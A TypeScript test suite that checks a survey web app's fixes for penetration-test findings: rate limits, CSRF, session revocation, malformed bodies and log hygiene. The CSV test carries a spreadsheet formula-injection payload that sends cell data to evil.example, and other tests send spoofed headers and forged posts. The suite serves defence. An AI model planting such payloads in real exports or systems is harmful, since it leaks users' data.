import { expect } from 'chai';
import { createFederation } from '../../server/storage/federations.js';
import { createIntervention, setMeasurementPoint } from '../../server/storage/interventions.js';
import { sectionsForPoint } from '../../server/domain/instrument.js';
import { pageFields } from '../helpers/answers.js';
import { smallIntervention } from '../helpers/fixtures.js';
import { HttpClient } from '../helpers/http.js';
import { instruments, startTestServer, type TestServer } from '../helpers/server.js';

const SECTION_1 = sectionsForPoint(instruments.get('participant')!, 'start')[0]!;
import { makeUser, signedIn } from '../helpers/users.js';

// What a penetration test found (issue 10), each as it was tried.

const count = (server: TestServer, sql: string) => server.db.prepare(`SELECT count(*) FROM ${sql}`).pluck().get() as number;

describe('hardening', function () {
  this.timeout(60_000);
  let server: TestServer;
  let fid: number;
  let iid: number;

  before(async () => {
    server = await startTestServer({ codeEntryLimit: 3 });
    fid = createFederation(server.db, 'Förbundet').id;
    iid = createIntervention(server.db, { federationId: fid, name: 'Insatsen', kind: 'individual' }).id;
    setMeasurementPoint(server.db, iid, 'start', 'participant');
    makeUser(server.db, 'admin@hard.example', [{ federationId: fid, role: 'federation_admin' }]);
    makeUser(server.db, 'staff@hard.example', [{ federationId: fid, role: 'staff' }], { assign: [iid] });
    makeUser(server.db, 'root@hard.example', [], { systemAdmin: true });
  });
  after(() => server.close());

  it('does not let X-Forwarded-For choose the address the code-entry limit counts (no proxy is trusted by default)', async () => {
    const guesser = new HttpClient(server.url);
    const statuses: number[] = [];
    await guesser.get('/s');
    const token = guesser.csrfToken();
    for (let k = 0; k < 5; k++) {
      const body = new URLSearchParams({ _csrf: token, code: 'ABCD-EFGH' });
      const res = await guesser.request('POST', '/s', { body: body.toString(), headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': `203.0.113.${k + 1}` } });
      statuses.push(res.status);
    }
    expect(statuses.slice(0, 3)).to.deep.equal([404, 404, 404]);
    expect(statuses.slice(3)).to.deep.equal([429, 429]);
  });

  it('counts missed code guesses on every route that takes a code, per address and from all together', async () => {
    // The limit of 3 was spent by the X-Forwarded-For test above from this address: a fresh server for this one.
    const fresh = await startTestServer({ codeEntryLimit: 3, codeGuessCapPerMinute: 1000 });
    try {
      const g = new HttpClient(fresh.url);
      await g.get('/s');
      const t = g.csrfToken();
      const post = (path: string, fields: Record<string, string>) => g.request('POST', path, { body: new URLSearchParams({ _csrf: t, ...fields }).toString(), headers: { 'content-type': 'application/x-www-form-urlencoded' } });
      const statuses = [
        (await g.get('/s/ABCDE23456/review')).status,
        (await g.get('/s/ABCDE23457/language')).status,
        (await post('/s/ABCDE23458/1', { action: 'next' })).status,
        (await g.get('/s/ABCDE23459/paused')).status,
        (await post('/s/ABCDE2345A/submit', {})).status,
      ];
      expect(statuses).to.deep.equal([404, 404, 404, 429, 429]);
    } finally {
      await fresh.close();
    }
    const capped = await startTestServer({ codeEntryLimit: 1000, codeGuessCapPerMinute: 4 });
    const logged: string[] = [];
    const original = console.error;
    console.error = (...args: unknown[]) => void logged.push(args.map(String).join(' '));
    try {
      const statuses: number[] = [];
      for (let k = 0; k < 6; k++) statuses.push((await new HttpClient(capped.url).get(`/s/ABCDE2345${'BCDEFG'[k]}`)).status);
      expect(statuses).to.deep.equal([404, 404, 404, 404, 429, 429]);
    } finally {
      console.error = original;
      await capped.close();
    }
    expect(logged.filter((l) => l.startsWith('ALERT code guessing'))).to.have.length(1);
  });

  it('lets many participants on one network save at once, even after guesses from there used up its limit', async () => {
    // The X-Forwarded-For test above spent this address's limit of 3 missed guesses.
    const { startCodes } = smallIntervention(server.db, 12);
    const people = await Promise.all(startCodes.map(async (code) => {
      const client = new HttpClient(server.url);
      await client.get(`/s/${code}/language`);
      expect((await client.post(`/s/${code}/language`, { language: 'sv' })).status).to.equal(303);
      return { client, code };
    }));
    const statuses = await Promise.all(people.map(({ client, code }) => client.post(`/s/${code}/1`, { ...pageFields(SECTION_1), action: 'pause' }).then((r) => r.status)));
    expect(statuses).to.deep.equal(startCodes.map(() => 303));
    expect((await new HttpClient(server.url).get('/s/ABCDE2345Z/review')).status, 'a guess from there is still refused').to.equal(429);
  });

  it('ends the session that asked to sign out everywhere, and the one that changed the password', async () => {
    const everywhere = await signedIn(server.url, 'admin@hard.example');
    const oldCookie = everywhere.cookieHeaderValue();
    await everywhere.get('/account');
    expect((await everywhere.post('/logout-everywhere', {})).status).to.equal(303);
    const replay = await fetch(`${server.url}/f/${fid}`, { headers: { cookie: oldCookie }, redirect: 'manual' });
    expect(replay.status, 'the old cookie opens nothing').to.equal(303);
    expect(replay.headers.get('location')).to.match(/^\/login/);

    const changing = await signedIn(server.url, 'staff@hard.example');
    const before = changing.cookieHeaderValue();
    await changing.get('/account');
    const changed = await changing.post('/account/password', { current: 'Testlösen-för-prov-42', password: 'Ett nytt lösen för 2027', confirm: 'Ett nytt lösen för 2027' });
    expect(changed.status).to.equal(303);
    const again = await fetch(`${server.url}/account`, { headers: { cookie: before }, redirect: 'manual' });
    expect(again.status).to.equal(303);
    expect((await signedIn(server.url, 'staff@hard.example', 'Ett nytt lösen för 2027')).cookieHeaderValue()).to.not.equal('');
  });

  it('answers deeply nested JSON, empty and XML bodies on the staff forms with a 4xx, never a 500, and writes nothing', async () => {
    const admin = await signedIn(server.url, 'admin@hard.example');
    await admin.get(`/f/${fid}/interventions/${iid}/participants`);
    const token = admin.csrfToken();
    let deep = '"x"';
    for (let k = 0; k < 5000; k++) deep = `{"a":${deep}}`;
    const participants = count(server, 'participants');
    const base = `/f/${fid}/interventions/${iid}`;
    const posts: [string, string, string][] = [
      [`${base}/participants`, 'application/json', `{"_csrf":"${token}","localRef":${deep}}`],
      [`${base}/participants/bulk`, 'application/json', `{"_csrf":"${token}","count":{"n":{"m":5}}}`],
      [`${base}/codes`, 'application/x-www-form-urlencoded', `_csrf=${encodeURIComponent(token)}`],
      [`${base}/codes/anonymous`, 'application/x-www-form-urlencoded', `_csrf=${encodeURIComponent(token)}`],
      [`${base}/participants/bulk`, 'application/xml', '<count>5</count>'],
      [`/f/${fid}/rounds`, 'application/json', `{"_csrf":"${token}","name":["a",{"b":1}],"startsOn":"2026-01-01","endsOn":"2026-02-01"}`],
      [`/f/${fid}/settings`, 'application/json', `{"_csrf":"${token}","name":"Namn\\u0000med NUL"}`],
      [`/f/${fid}/settings`, 'application/json', `{"_csrf":"${token}","name":"Ensam \\ud800 surrogat"}`],
    ];
    for (const [path, type, body] of posts) {
      const res = await admin.request('POST', path, { body, headers: { 'content-type': type, 'x-csrf-token': token } });
      expect(res.status, `${path} ${type}`).to.be.within(400, 499);
    }
    expect(count(server, 'participants')).to.equal(participants);
    expect(count(server, "federations WHERE name LIKE 'Namn%' OR name LIKE 'Ensam%'")).to.equal(0);
  });

  it('answers a cross-site post with 403 and no new cookies, so the visitor\'s open page keeps a working token', async () => {
    const admin = await signedIn(server.url, 'admin@hard.example');
    await admin.get(`/f/${fid}/rounds`);
    const token = admin.csrfToken();
    // What a form on another site sends: no cookies (SameSite=Lax), no valid token.
    const forged = await fetch(`${server.url}/f/${fid}/rounds`, { method: 'POST', redirect: 'manual', body: 'name=Falsk&startsOn=2026-01-01&endsOn=2026-02-01', headers: { 'content-type': 'application/x-www-form-urlencoded' } });
    expect(forged.status).to.be.oneOf([401, 403]);
    expect(forged.headers.getSetCookie(), 'no cookie replaced').to.deep.equal([]);
    const honest = await admin.post(`/f/${fid}/rounds`, { name: 'Äkta', startsOn: '2026-01-01', endsOn: '2026-02-01' }, { csrf: token });
    expect(honest.status).to.equal(303);
    const participantPage = await fetch(`${server.url}/s/ABCD2345/1`, { method: 'POST', redirect: 'manual', body: 'action=next', headers: { 'content-type': 'application/x-www-form-urlencoded' } });
    expect(participantPage.status).to.equal(403);
    expect(participantPage.headers.getSetCookie()).to.deep.equal([]);
  });

  it('reads ids in paths as digits only, and answers a revoke of something that is not there with 404 and no audit row', async () => {
    const admin = await signedIn(server.url, 'admin@hard.example');
    for (const path of [`/f/${fid}e0`, '/f/0x1', `/f/0${fid}`, `/f/${fid}.0`, `/f/+${fid}`]) expect((await admin.get(path)).status, path).to.equal(404);
    expect((await admin.get(`/f/${fid}`)).status).to.equal(200);
    await admin.get(`/f/${fid}/users`);
    const rows = count(server, 'audit_log');
    expect((await admin.post(`/f/${fid}/users/999999/revoke`, { role: 'staff' })).status).to.equal(404);
    expect((await admin.post(`/f/${fid}/users/abc/revoke`, { role: 'staff' })).status).to.equal(404);
    await admin.get(`/f/${fid}/tokens`);
    expect((await admin.post(`/f/${fid}/tokens/424242/revoke`, {})).status).to.equal(404);
    expect(count(server, "audit_log WHERE action IN ('role.revoke', 'token.revoke')")).to.equal(0);
    expect(count(server, 'audit_log') - rows, 'only the page views').to.be.at.most(2);
  });

  it('defuses names that a spreadsheet would run as formulas in every CSV export', async () => {
    const formulas = ['=HYPERLINK("https://evil.example/?d="&A1,"Klicka")', '@SUM(A1:A9)', '+46 70 123', '-2+3', '\t=1+1'];
    for (const name of formulas) setMeasurementPoint(server.db, createIntervention(server.db, { federationId: fid, name, kind: 'individual' }).id, 'start', 'participant');
    const admin = await signedIn(server.url, 'admin@hard.example');
    const csv = await admin.get(`/f/${fid}/compare?format=csv&point=start`);
    expect(csv.status).to.equal(200);
    const cells = csv.text.replace(/^\uFEFF/, '').split('\r\n').slice(1).map((line) => line.split(',')[0]!);
    for (const name of formulas) {
      // papaparse's escapeFormulae: the cell starts with ' so Excel and LibreOffice show it as text.
      const quoted = `"'${name.replace(/"/g, '""')}"`;
      expect(csv.text, name).to.contain(quoted);
    }
    expect(cells.filter((c) => /^"?[=+\-@\t]/.test(c))).to.deep.equal([]);
  });

  it('marks every page no-store, so no browser or proxy keeps a copy of personal data', async () => {
    const staff = await signedIn(server.url, 'staff@hard.example', 'Ett nytt lösen för 2027');
    for (const path of [`/f/${fid}/interventions/${iid}/participants`, '/account', '/s', '/login']) {
      const res = await staff.get(path);
      expect(res.headers.get('cache-control'), path).to.equal('no-store');
    }
    const css = await fetch(`${server.url}/static/css/app.css`);
    expect(css.headers.get('cache-control') ?? '').to.not.contain('no-store');
  });

  it('keeps a password typed into the e-mail field out of the log, and shows sign-ins to the system admin', async () => {
    const stranger = new HttpClient(server.url);
    await stranger.get('/login');
    await stranger.post('/login', { email: 'Mitt hemliga lösen 2026', password: 'x' });
    await stranger.get('/login');
    await stranger.post('/login', { email: '  Admin@Hard.Example ', password: 'fel lösen helt och hållet' });
    const actors = server.db.prepare("SELECT actor FROM audit_log WHERE action = 'login.failed' ORDER BY id").pluck().all() as (string | null)[];
    expect(actors).to.deep.equal([null, 'admin@hard.example']);
    const root = await signedIn(server.url, 'root@hard.example');
    const log = await root.get('/admin/audit?action=login');
    expect(log.status).to.equal(200);
    expect(log.text.match(/data-action="login.failed">Misslyckad inloggning/g)).to.have.length(2);
    expect(log.text).to.not.contain('Mitt hemliga');
    expect((await (await signedIn(server.url, 'admin@hard.example')).get('/admin/audit')).status, 'not for a förbund admin').to.equal(403);
  });
});
